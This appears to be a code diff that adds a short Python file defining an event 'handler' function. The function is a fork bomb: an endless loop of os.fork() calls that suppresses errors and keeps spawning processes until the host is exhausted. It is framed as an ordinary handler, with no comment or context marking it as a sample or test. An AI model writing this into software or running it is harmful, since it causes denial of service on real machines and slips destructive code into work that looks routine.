@@ -1,0 +1,9 @@
+import os
+
+
+def handler(event):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
